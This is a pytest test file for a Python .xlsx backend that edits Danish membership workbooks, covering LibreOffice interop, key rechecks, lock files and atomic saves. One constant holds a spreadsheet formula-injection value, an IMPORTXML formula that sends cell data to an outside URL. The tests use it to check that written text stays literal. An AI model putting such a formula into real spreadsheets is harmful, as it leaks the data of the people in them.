"""The .xlsx backend on real files, including ones written by LibreOffice."""

from __future__ import annotations

import csv
import datetime as dt
import os
import re
import shutil
import stat
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

import tovholder.sheets.xlsx
from tovholder.core.errors import WorkbookError, WorkbookLocked
from tovholder.sheets.batch import Batch, NewTab
from tovholder.sheets.xlsx import XlsxBackend

DATA = Path(__file__).parent / "data" / "xlsx"
HOSTILE = '=IMPORTXML("https://x/?"&A1)'


def _soffice(tmp_path: Path, *args: str) -> None:
    exe = shutil.which("soffice")
    if exe is None:
        pytest.fail("LibreOffice (soffice) is not installed; these tests need it")
    profile = tmp_path / "lo-profile"  # a fresh profile per test, so parallel runs don't clash
    subprocess.run([exe, f"-env:UserInstallation={profile.as_uri()}", "--headless", *args],
                   check=True, capture_output=True, timeout=180)


def _libreoffice_xlsx(tmp_path: Path) -> Path:
    _soffice(tmp_path, "--convert-to", "xlsx", "--outdir", str(tmp_path),
             str(DATA / "chair_workbook.fods"))
    return tmp_path / "chair_workbook.xlsx"


def _libreoffice_csv(tmp_path: Path, xlsx: Path) -> list[list[str]]:
    """The first tab as LibreOffice shows it (UTF-8 csv)."""
    out = tmp_path / "csv"
    _soffice(tmp_path, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
             "--outdir", str(out), str(xlsx))
    with open(out / f"{xlsx.stem}.csv", encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _workbook(path: Path, tabs: dict[str, list[list[object]]]) -> Path:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in tabs.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    wb.save(path)
    return path


def _members(tmp_path: Path) -> Path:
    return _workbook(tmp_path / "gruppe.xlsx", {
        "Medlemmer": [["Navn", "E-mail", "Status"],
                      ["Anna", "anna@example.dk", "afventer"],
                      ["Bo", "bo@example.dk", "afventer"]],
        "Log": [["Tid", "Art", "Nøgle"]],
    })


# --- a workbook written by LibreOffice -------------------------------------------------------

@pytest.mark.soffice
def test_libreoffice_workbook_reads_dates_phone_text_and_formula_results(tmp_path: Path) -> None:
    snapshot = XlsxBackend(_libreoffice_xlsx(tmp_path)).read()

    assert snapshot["Medlemmer"][0] == ["Navn", "E-mail", "Status", "Telefon", "Nr"]
    assert snapshot["Medlemmer"][1] == ["Anna Ærø", "anna@example.dk", "aktiv", "004512345678", 1]
    assert snapshot["Møder"][1] == [dt.datetime(2025, 3, 4), "Rådhuset"]


@pytest.mark.soffice
def test_apply_on_libreoffice_workbook_then_read_back(tmp_path: Path) -> None:
    backend = XlsxBackend(_libreoffice_xlsx(tmp_path))
    batch = Batch()
    batch.set_cell("Medlemmer", 3, 3, "aktiv", key_col=2, key_value="BO@example.dk ")
    batch.set_cell("Medlemmer", 2, 4, "+4512345678", key_col=5, key_value="1")  # Nr: =ROW()-1
    batch.append("Møder", ("2025-04-01", "Online"))

    result = backend.apply(batch)

    assert (result.cells_written, result.appended_rows, result.conflicts) == (2, 1, [])
    snapshot = backend.read()
    assert snapshot["Medlemmer"][1] == ["Anna Ærø", "anna@example.dk", "aktiv", "+4512345678", 1]
    assert snapshot["Medlemmer"][2] == ["Bo Øster", "bo@example.dk", "aktiv", None, 2]
    assert snapshot["Møder"][1:] == [[dt.datetime(2025, 3, 4), "Rådhuset"],
                                     ["2025-04-01", "Online"]]
    assert backend.label == "chair_workbook.xlsx"


@pytest.mark.soffice
def test_formula_results_survive_apply_and_dependents_are_recomputed(tmp_path: Path) -> None:
    # The chair's Nr (=ROW()-1) keeps its result for our next read; a formula over a cell we
    # wrote is left for LibreOffice to compute afresh instead of showing the old result.
    source = _workbook(tmp_path / "src.xlsx", {"T": [["old", '=A1&"!"', "=ROW()"]]})
    _soffice(tmp_path, "--convert-to", "xlsx", "--outdir", str(tmp_path / "lo"), str(source))
    backend = XlsxBackend(tmp_path / "lo" / "src.xlsx")
    assert backend.read() == {"T": [["old", "old!", 1]]}
    batch = Batch()
    batch.set_cell("T", 1, 1, "new", key_col=1, key_value="old")

    backend.apply(batch)

    assert backend.read() == {"T": [["new", None, 1]]}
    assert _libreoffice_csv(tmp_path, backend.path) == [["new", "new!", "1"]]


@pytest.mark.soffice
def test_hostile_formula_text_shows_literally_in_libreoffice(tmp_path: Path) -> None:
    path = _members(tmp_path)
    batch = Batch()
    batch.set_cell("Medlemmer", 2, 3, HOSTILE, key_col=2, key_value="anna@example.dk")
    XlsxBackend(path).apply(batch)

    assert _libreoffice_csv(tmp_path, path)[1] == ["Anna", "anna@example.dk", HOSTILE]


# --- values are text, formulas are the chair's ------------------------------------------------

@pytest.mark.parametrize("text", [HOSTILE, "=1+1", "#N/A", "+4512345678", "@SUM(A1)"])
def test_hostile_formula_text_is_stored_as_text(tmp_path: Path, text: str) -> None:
    path = _members(tmp_path)
    batch = Batch()
    batch.set_cell("Medlemmer", 2, 3, text, key_col=2, key_value="anna@example.dk")
    batch.append("Log", ("2025-01-01", text, "k"))
    XlsxBackend(path).apply(batch)

    wb = openpyxl.load_workbook(path)
    for cell in (wb["Medlemmer"]["C2"], wb["Log"]["B2"]):
        assert (cell.value, cell.data_type) == (text, "s")
    with zipfile.ZipFile(path) as zf:
        assert all(b"<f>" not in zf.read(n) for n in zf.namelist() if "worksheets/" in n)
    assert XlsxBackend(path).read()["Medlemmer"][1][2] == text


def test_control_characters_are_dropped_not_fatal(tmp_path: Path) -> None:
    path = _members(tmp_path)
    batch = Batch()
    batch.append("Log", ("a\x00b\x0bc", "tab\there", "line\nbreak"))
    XlsxBackend(path).apply(batch)

    assert XlsxBackend(path).read()["Log"][1] == ["abc", "tab\there", "line\nbreak"]


def test_chair_formulas_are_preserved_after_apply(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "f.xlsx", {"Medlemmer": [
        ["Navn", "E-mail", "Status", "Antal"],
        ["Anna", "anna@example.dk", "afventer", '=COUNTIF(C:C,"aktiv")'],
    ]})
    batch = Batch()
    batch.set_cell("Medlemmer", 2, 3, "aktiv", key_col=2, key_value="anna@example.dk")
    XlsxBackend(path).apply(batch)

    cell = openpyxl.load_workbook(path)["Medlemmer"]["D2"]
    assert (cell.value, cell.data_type) == ('=COUNTIF(C:C,"aktiv")', "f")


# --- keys are re-checked ---------------------------------------------------------------------

def test_key_recheck_reports_conflict_when_rows_were_resorted(tmp_path: Path) -> None:
    path = _members(tmp_path)
    backend = XlsxBackend(path)
    assert backend.read()["Medlemmer"][1][1] == "anna@example.dk"
    # The chair sorts Bo above Anna between our read and our write.
    wb = openpyxl.load_workbook(path)
    ws = wb["Medlemmer"]
    ws["A2"], ws["B2"], ws["A3"], ws["B3"] = "Bo", "bo@example.dk", "Anna", "anna@example.dk"
    wb.save(path)
    batch = Batch()
    batch.set_cell("Medlemmer", 2, 3, "aktiv", key_col=2, key_value="anna@example.dk")
    batch.set_cell("Medlemmer", 3, 3, "udtrådt", key_col=2, key_value="anna@example.dk")

    result = backend.apply(batch)

    assert result.cells_written == 1
    assert [(c.write.row, c.found) for c in result.conflicts] == [(2, "bo@example.dk")]
    rows = backend.read()["Medlemmer"]
    assert rows[1] == ["Bo", "bo@example.dk", "afventer"]
    assert rows[2] == ["Anna", "anna@example.dk", "udtrådt"]


def test_missing_tab_for_a_cell_is_a_conflict(tmp_path: Path) -> None:
    batch = Batch()
    batch.set_cell("Opgaver", 2, 3, "færdig", key_col=1, key_value="1")
    result = XlsxBackend(_members(tmp_path)).apply(batch)
    assert (result.cells_written, result.conflicts[0].found) == (0, "")


def test_date_key_matches_its_iso_text(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "m.xlsx", {"Møder": [["Dato", "Status"],
                                                      [dt.datetime(2025, 3, 4), "planlagt"]]})
    batch = Batch()
    batch.set_cell("Møder", 2, 2, "afholdt", key_col=1, key_value="2025-03-04")
    assert XlsxBackend(path).apply(batch).cells_written == 1


# --- appends ---------------------------------------------------------------------------------

def test_append_goes_below_last_nonempty_row_and_blank_rows_keep_their_place(
        tmp_path: Path) -> None:
    path = _members(tmp_path)
    wb = openpyxl.load_workbook(path)
    ws = wb["Log"]
    ws["A3"] = "x"  # row 2 left blank by the chair
    ws["A20"].font = openpyxl.styles.Font(bold=True)  # formatted, but empty
    wb.save(path)
    batch = Batch()
    batch.append("Log", ("t1", "mail", "k1"), ("t2", "mail", "k2"))

    assert XlsxBackend(path).apply(batch).appended_rows == 2

    assert XlsxBackend(path).read()["Log"] == [
        ["Tid", "Art", "Nøgle"], [], ["x"], ["t1", "mail", "k1"], ["t2", "mail", "k2"]]


def test_read_ignores_a_wrong_stored_dimension(tmp_path: Path) -> None:
    # Some generators write <dimension ref="A1:A1"/> whatever the size; read_only would trust it.
    path = _members(tmp_path)
    with zipfile.ZipFile(path) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = re.sub(rb"<dimension [^>]*>", b"<dimension ref=\"A1:A1\"/>", parts[sheet])
    assert b"A1:A1" in parts[sheet]
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in parts.items():
            zf.writestr(name, data)

    assert XlsxBackend(path).read()["Medlemmer"][2] == ["Bo", "bo@example.dk", "afventer"]


def test_append_to_missing_tab_is_an_error_and_writes_nothing(tmp_path: Path) -> None:
    path = _members(tmp_path)
    before = path.read_bytes()
    batch = Batch()
    batch.append("Svar", ("a",))
    with pytest.raises(WorkbookError) as err:
        XlsxBackend(path).apply(batch)
    assert (err.value.code, err.value.params["tab"]) == ("workbook.tab_missing", "Svar")
    assert path.read_bytes() == before


# --- locks, errors, atomic save --------------------------------------------------------------

@pytest.mark.parametrize(("lockname", "app"), [("~$gruppe.xlsx", "Excel"),
                                               (".~lock.gruppe.xlsx#", "LibreOffice")])
def test_locked_workbook_is_refused_and_left_unchanged(tmp_path: Path, lockname: str,
                                                       app: str) -> None:
    path = _members(tmp_path)
    (tmp_path / lockname).write_text("someone,host,2025")
    before = path.read_bytes()
    batch = Batch()
    batch.append("Log", ("t", "mail", "k"))

    with pytest.raises(WorkbookLocked) as err:
        XlsxBackend(path).apply(batch)
    with pytest.raises(WorkbookLocked):
        XlsxBackend(path).create_tabs([NewTab("Svar", (("Medlem",),))])

    assert err.value.params == {"path": str(path), "lockfile": str(tmp_path / lockname),
                                "app": app}
    assert path.read_bytes() == before
    assert XlsxBackend(path).read()["Medlemmer"][1] == ["Anna", "anna@example.dk", "afventer"]


def _corrupt_files(tmp_path: Path) -> dict[str, Path]:
    text = tmp_path / "notes.xlsx"
    text.write_text("Navn;E-mail\nAnna;anna@example.dk\n")  # a .txt renamed
    truncated = tmp_path / "truncated.xlsx"
    truncated.write_bytes(_members(tmp_path).read_bytes()[:900])
    no_workbook = tmp_path / "docx.xlsx"
    with zipfile.ZipFile(no_workbook, "w") as zf:
        zf.writestr("word/document.xml", "<w/>")
    return {"text": text, "truncated": truncated, "no_workbook": no_workbook}


@pytest.mark.parametrize("kind", ["text", "truncated", "no_workbook"])
def test_corrupt_or_non_xlsx_file_is_a_clear_workbook_error(tmp_path: Path, kind: str) -> None:
    path = _corrupt_files(tmp_path)[kind]
    backend = XlsxBackend(path)
    batch = Batch()
    batch.append("Log", ("t",))
    for action in (backend.read, lambda: backend.apply(batch)):
        with pytest.raises(WorkbookError) as err:
            action()
        assert err.value.code == "workbook.corrupt"
        assert err.value.params["path"] == str(path)
        assert isinstance(err.value.params["detail"], str) and err.value.params["detail"]
    if kind == "text":
        assert "zip" in err.value.params["detail"].lower()


def test_missing_file_is_not_found(tmp_path: Path) -> None:
    backend = XlsxBackend(tmp_path / "nope.xlsx")
    batch = Batch()
    batch.append("Log", ("t",))
    for action in (backend.read, lambda: backend.apply(batch)):
        with pytest.raises(WorkbookError) as err:
            action()
        assert (err.value.code, err.value.params) == (
            "workbook.not_found", {"path": str(tmp_path / "nope.xlsx")})


def test_permission_denied_is_a_workbook_error(tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    # chmod 000 means nothing to root (CI containers), so deny at the open itself.
    def denied(*args: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tovholder.sheets.xlsx, "load_workbook", denied)
    with pytest.raises(WorkbookError) as err:
        XlsxBackend(_members(tmp_path)).read()
    assert err.value.code == "workbook.permission"
    assert err.value.params == {"path": str(tmp_path / "gruppe.xlsx")}


def test_crash_during_save_leaves_original_intact_and_no_temp_files(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = _members(tmp_path)
    before = path.read_bytes()
    files = sorted(os.listdir(tmp_path))

    def crash(src: object, dst: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", crash)
    batch = Batch()
    batch.append("Log", ("t", "mail", "k"))
    with pytest.raises(WorkbookError) as err:
        XlsxBackend(path).apply(batch)

    assert err.value.code == "workbook.error"
    assert path.read_bytes() == before
    assert sorted(os.listdir(tmp_path)) == files


def test_save_keeps_the_file_mode(tmp_path: Path) -> None:
    path = _members(tmp_path)
    path.chmod(0o640)
    batch = Batch()
    batch.append("Log", ("t", "mail", "k"))
    XlsxBackend(path).apply(batch)
    assert stat.S_IMODE(path.stat().st_mode) == 0o640


# --- create_tabs -----------------------------------------------------------------------------

def _new_tabs() -> list[NewTab]:
    return [
        NewTab("Medlemmer", (("Navn", "E-mail", "Status"), ("Anna", "anna@example.dk", "aktiv")),
               dropdowns=((3, ("aktiv", "afventer", "udtrådt")),), column_widths=(20, 30, 12)),
        NewTab("Log", (("Tid", "Art", "Nøgle"),)),
    ]


def test_create_tabs_makes_a_new_workbook_with_headers_and_dropdowns(tmp_path: Path) -> None:
    path = tmp_path / "ny.xlsx"
    assert XlsxBackend(path).create_tabs(_new_tabs()) == ["Medlemmer", "Log"]

    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Medlemmer", "Log"]  # no default "Sheet"
    ws = wb["Medlemmer"]
    assert ws["A1"].font.bold and ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width == 30
    assert (ws["B2"].value, ws["B2"].data_type) == ("anna@example.dk", "s")
    [dv] = ws.data_validations.dataValidation
    assert (dv.type, dv.formula1, dv.allow_blank) == ("list", '"aktiv,afventer,udtrådt"', True)
    assert str(dv.sqref) == "C2:C1000"
    assert XlsxBackend(path).read()["Log"] == [["Tid", "Art", "Nøgle"]]


def test_create_tabs_adds_only_missing_tabs_and_leaves_existing_ones_alone(
        tmp_path: Path) -> None:
    path = _workbook(tmp_path / "g.xlsx", {"medlemmer": [["Navn", "Min kolonne"], ["Bo", "x"]]})

    created = XlsxBackend(path).create_tabs(_new_tabs())

    assert created == ["Log"]
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["medlemmer", "Log"]
    assert [[c.value for c in r] for r in wb["medlemmer"].iter_rows()] == [
        ["Navn", "Min kolonne"], ["Bo", "x"]]
    assert not wb["medlemmer"].data_validations.dataValidation
    assert XlsxBackend(path).create_tabs(_new_tabs()) == []


@pytest.mark.soffice
def test_created_workbook_opens_in_libreoffice(tmp_path: Path) -> None:
    path = tmp_path / "ny.xlsx"
    XlsxBackend(path).create_tabs(_new_tabs())
    assert _libreoffice_csv(tmp_path, path) == [["Navn", "E-mail", "Status"],
                                                ["Anna", "anna@example.dk", "aktiv"]]


def test_half_a_utf16_character_in_written_text_does_not_stop_the_save(tmp_path: Path) -> None:
    # lxml refuses a lone surrogate and the whole save failed (found by the fuzz, issue 12)
    backend = XlsxBackend(_workbook(tmp_path / "g.xlsx", {"Log": [["tid", "detalje"]]}))
    batch = Batch()
    batch.append("Log", ("2026-11-30 06:00:00", "emne: \ud800 hej"))
    backend.apply(batch)
    assert backend.read()["Log"][1] == ["2026-11-30 06:00:00", "emne: ? hej"]
